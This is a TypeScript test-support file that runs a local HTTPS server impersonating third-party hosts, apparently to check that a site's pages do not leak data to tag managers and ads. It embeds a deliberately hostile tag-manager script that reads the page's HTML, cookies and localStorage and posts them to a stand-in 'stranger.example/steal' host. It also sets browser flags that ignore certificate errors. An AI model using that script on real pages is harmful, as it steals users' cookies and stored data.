import { createServer } from 'node:https';
import { makeCertificate } from '../../server/test-support/make-certificate.ts';

/** A request that reached somebody else than the site. */
interface ForeignRequest {
  readonly host: string;
  readonly path: string;
  /** Everything of it in one text: address, headers, body. */
  readonly whole: string;
  readonly body: string;
}

/** Stands for every other host: the tag manager, the ads, and whoever else a page might talk to. */
export interface StandIn {
  readonly port: number;
  readonly requests: readonly ForeignRequest[];
  /** What the scripts have sent home: entries of the data layer, and what they could see around them. */
  reports(): Report[];
  /** Forgets what was asked of it: the next journey begins. */
  forget(): void;
  close(): Promise<void>;
}

interface Report {
  readonly entry?: unknown;
  readonly pried?: unknown;
}

/**
 * A tag manager as bad as one can be: it reads whatever it can reach of the page around it, tells a stranger, and sends home every entry of
 * the data layer as it comes.
 */
const TAG_MANAGER = `(()=>{
const reach=look=>{try{return String(look())}catch(error){return "denied: "+error.name}};
const pried={
page:reach(()=>top.document.documentElement.innerHTML),
address:reach(()=>top.location.href),
referrer:reach(()=>document.referrer),
cookies:reach(()=>document.cookie),
storage:reach(()=>JSON.stringify(localStorage)),
own:reach(()=>location.href),
};
const home=report=>navigator.sendBeacon("https://region1.google-analytics.com/g/collect",JSON.stringify(report));
home({pried});
fetch("https://stranger.example/steal",{method:"POST",mode:"no-cors",body:JSON.stringify(pried)}).catch(()=>{});
new Image().src="https://stranger.example/pixel";
const flat=entry=>"length" in entry?Array.from(entry):entry;
const layer=window.dataLayer;
for(const entry of layer)home({entry:flat(entry)});
const before=layer.push.bind(layer);
layer.push=entry=>{before(entry);home({entry:flat(entry)})};
})()`;

/** Ads that send their conversion with all that they can see. */
const ADS = `(()=>{
const layer=window.dataLayer;
const before=layer.push.bind(layer);
const send=entry=>{
const [what,name,fields]=Array.from(entry);
if(what==="event"&&name==="conversion")new Image().src="https://www.googleadservices.com/pagead/conversion/?to="+encodeURIComponent(fields.send_to)+"&url="+encodeURIComponent(location.href)+"&ref="+encodeURIComponent(document.referrer);
};
const hear=entry=>{if("length" in entry)send(entry)};
layer.forEach(hear);
layer.push=entry=>{before(entry);hear(entry)};
})()`;

const SCRIPTS: Readonly<Record<string, string>> = { '/gtm.js': TAG_MANAGER, '/gtag/js': ADS };

/** Begins to listen on loopback; a browser is led there by `hostRules`. */
export async function startStandIn(): Promise<StandIn> {
  const requests: ForeignRequest[] = [];
  const server = createServer(makeCertificate('127.0.0.1', true), (request, response) => {
    // The browser's own calls (updates, field types) are no page's.
    if (request.headers['sec-fetch-site'] === 'none') return response.writeHead(404).end();
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString();
      const { host = '' } = request.headers;
      const url = request.url ?? '';
      const whole = `${host} ${decodeURIComponent(url)} ${JSON.stringify(request.headers)} ${body}`;
      requests.push({ host: host.replace(/:\d+$/, ''), path: url, whole, body });
      const script = SCRIPTS[url.split('?')[0] ?? ''];
      response.setHeader('cross-origin-resource-policy', 'cross-origin');
      if (script === undefined) return response.writeHead(204).end();
      return response.setHeader('content-type', 'text/javascript').end(script);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('The stand-in has no port.');
  return {
    port: address.port,
    requests,
    forget: () => {
      requests.length = 0;
    },
    reports: () =>
      requests.filter(({ path }) => path === '/g/collect').map(({ body }) => JSON.parse(body)),
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** The browser's arguments that lead every host but this machine's own to the stand-in. */
export function hostRules({ port }: StandIn): string[] {
  return [
    `--host-resolver-rules=MAP * 127.0.0.1:${port}, EXCLUDE localhost`,
    '--ignore-certificate-errors',
  ];
}
